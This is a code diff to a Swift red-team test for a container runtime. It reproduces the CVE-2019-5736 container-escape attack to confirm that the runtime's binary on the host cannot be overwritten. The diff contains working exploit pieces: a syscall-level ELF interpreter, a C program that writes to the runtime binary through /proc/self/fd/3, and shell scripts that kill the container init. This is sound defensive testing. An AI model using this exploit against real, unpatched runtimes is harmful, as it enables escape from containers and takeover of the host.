@@ -10,8 +10,8 @@ struct RedTeamOCIRuntimeTests {
     /// An ELF interpreter of the image's own (no libc, raw syscalls): the kernel runs it for a
     /// dynamically linked binary, so whatever binary the workload execs, this code runs with
     /// that binary as /proc/self/exe. It keeps a descriptor of /proc/self/exe as fd 3, then
-    /// execs a busybox shell that kills the container's init (the host's pid namespace: the
-    /// config has none) and, once the binary is no longer text-busy, writes to it.
+    /// execs a busybox shell (`$ATTACK`, given in the environment) that waits until the runtime's
+    /// binary is no longer text-busy and runs /wr, which reopens fd 3 for writing.
     static let interpreter = #"""
     #include <sys/syscall.h>
     #include <fcntl.h>
@@ -25,23 +25,43 @@ struct RedTeamOCIRuntimeTests {
         long lf = sc(SYS_open, (long)"/out/log", O_WRONLY | O_CREAT | O_APPEND, 0644);
         sc(SYS_write, lf, (long)"interp ran\n", 11);
         if (fd != 3) sc(SYS_dup2, fd, 3, 0);
-        const char *argv[] = {"sh", "-c",
-            "busybox readlink /proc/self/fd/3 >> /out/log; P=$PPID; (busybox sleep 1; busybox kill -9 $P; busybox sleep 1; "
-            "echo PWNED >> /proc/self/fd/3 && echo wrote >> /out/log || echo write-failed >> /out/log) & busybox sleep 5", 0};
+        const char *argv[] = {"sh", "-c", "busybox readlink /proc/self/fd/3 >> /out/log; . /attack", 0};
         const char *envp[] = {"PATH=/bin", 0};
         sc(SYS_execve, (long)"/bin/busybox", (long)argv, (long)envp);
         sc(SYS_exit, 1, 0, 0);
     }
     """#
 
+    /// The writer: reopens fd 3 (the runtime's binary as the interpreter found it) for writing
+    /// and says how far it got, with the errno.
+    static let writer = #"""
+    #include <errno.h>
+    #include <fcntl.h>
+    #include <stdio.h>
+    #include <unistd.h>
+    int main(void) {
+        int fd = open("/proc/self/fd/3", O_WRONLY | O_APPEND);
+        if (fd < 0) { printf("open-errno=%d\n", errno); return 0; }
+        if (write(fd, "PWNED", 5) != 5) { printf("write-errno=%d\n", errno); return 0; }
+        printf("wrote\n");
+        return 0;
+    }
+    """#
+
     /// CVE-2019-5736: the image's /bin/sh is a symlink to /proc/self/exe and its ELF interpreter
-    /// is the attacker's. The init is a clone of the runtime, so the workload's execve runs the
-    /// runtime's binary with the image's interpreter, which keeps a descriptor of it; killing
-    /// the init (no pid namespace) ends the text-busy state and the runtime on the host is
-    /// overwritten for the next container. runc runs from a sealed memfd for this reason.
-    @Test func workloadCannotOverwriteTheRuntimeBinary() throws {
+    /// is the attacker's. A process the runtime puts in the container is a clone of the runtime
+    /// (`create`: the init; `exec`: the joiner), so the workload's execve of /bin/sh runs the
+    /// runtime's binary with the image's interpreter, which keeps a descriptor of it; once
+    /// the binary is no longer text-busy (create: the init killed, no pid namespace; exec
+    /// --detach: the runtime has exited) the descriptor is reopened for writing, and the runtime
+    /// on the host would be overwritten for the next container. The runtime runs from a
+    /// read-only overlayfs view of its binary (open: EROFS) or, where the kernel cannot make
+    /// one, from a sealed memfd copy (write: EPERM), never from the writable file.
+    @Test(arguments: ["create", "exec"])
+    func workloadCannotOverwriteTheRuntimeBinary(via: String) throws {
         #if arch(x86_64)
-        let b = try OCIRuntimeTests.Bundle(args: ["/bin/sh"]) { config in
+        let b = try OCIRuntimeTests.Bundle(args: via == "create" ? ["/bin/sh"] : ["/bin/busybox", "sleep", "100"]) { config in
+            guard via == "create" else { return }
             var linux = config["linux"] as! [String: Any]
             linux["namespaces"] = (linux["namespaces"] as! [[String: Any]]).filter { $0["type"] as? String != "pid" }
             config["linux"] = linux
@@ -50,12 +70,22 @@ struct RedTeamOCIRuntimeTests {
         try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
         defer { try? FileManager.default.removeItem(atPath: work) }
         try Self.interpreter.write(toFile: work + "/interp.c", atomically: true, encoding: .utf8)
-        let cc = Process()
-        cc.executableURL = URL(fileURLWithPath: "/usr/bin/gcc")
-        cc.arguments = ["-nostdlib", "-static-pie", "-fPIE", "-O1", "-fno-stack-protector", "-o", work + "/interp", work + "/interp.c"]
-        try cc.run()
-        cc.waitUntilExit()
-        try #require(cc.terminationStatus == 0, "gcc builds the image's interpreter")
+        try Self.writer.write(toFile: work + "/wr.c", atomically: true, encoding: .utf8)
+        for (flags, src, dst) in [(["-nostdlib", "-static-pie", "-fPIE", "-O1", "-fno-stack-protector"], "/interp.c", work + "/interp"),
+                                  (["-static", "-O1"], "/wr.c", b.dir + "/rootfs/wr")] {
+            let cc = Process()
+            cc.executableURL = URL(fileURLWithPath: "/usr/bin/gcc")
+            cc.arguments = flags + ["-o", dst, work + src]
+            try cc.run()
+            cc.waitUntilExit()
+            try #require(cc.terminationStatus == 0, "gcc builds \(src)")
+        }
+        // create: kill the init (the shell's parent) so that nothing runs the binary any more;
+        // exec --detach: the runtime is gone once exec returns.
+        let attack = via == "create"
+            ? "P=$PPID; (busybox sleep 1; busybox kill -9 $P; busybox sleep 1; /wr >> /out/log) & busybox sleep 5\n"
+            : "busybox sleep 2; /wr >> /out/log\n"
+        try attack.write(toFile: b.dir + "/rootfs/attack", atomically: true, encoding: .utf8)
         let fm = FileManager.default
         try fm.createDirectory(atPath: b.dir + "/rootfs/lib64", withIntermediateDirectories: true)
         try fm.copyItem(atPath: work + "/interp", toPath: b.dir + "/rootfs/lib64/ld-linux-x86-64.so.2")
@@ -70,17 +100,23 @@ struct RedTeamOCIRuntimeTests {
         let c = try OCIRuntimeTests.rt(["create", "--bundle", b.dir, "c1"], root: b.stateRoot, binary: binary)
         try #require(c.status == 0, "create: \(c.stderr)")
         #expect(try OCIRuntimeTests.rt(["start", "c1"], root: b.stateRoot, binary: binary).status == 0)
+        if via == "exec" {
+            let e = try OCIRuntimeTests.rt(["exec", "--detach", "c1", "/bin/sh"], root: b.stateRoot, binary: binary)
+            try #require(e.status == 0, "exec: \(e.stderr)")
+        }
         let log = b.out + "/log"
         for _ in 0..<1000 {
             let text = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
-            if text.contains("wrote") || text.contains("write-failed") { break }
+            if text.contains("wrote") || text.contains("-errno=") { break }
             usleep(10_000)
         }
         let text = (try? String(contentsOfFile: log, encoding: .utf8)) ?? ""
         // The attack ran (not vacuous): the image's interpreter held the runtime's binary.
         #expect(text.contains("interp ran"), "log: \(text)")
-        #expect(text.contains("write-failed"), "log: \(text)")
         #expect(!text.contains("wrote"), "the workload wrote to the runtime's binary; log: \(text)")
+        // Refused by the kernel for the reason the protection gives: EROFS (30) opening the
+        // overlayfs view for writing, or EPERM (1) writing the sealed memfd copy.
+        #expect(text.contains("open-errno=\(EROFS)") || text.contains("write-errno=\(EPERM)"), "log: \(text)")
         #expect(try Data(contentsOf: URL(fileURLWithPath: binary)) == before, "the runtime's binary on the host is unchanged")
         #endif
     }
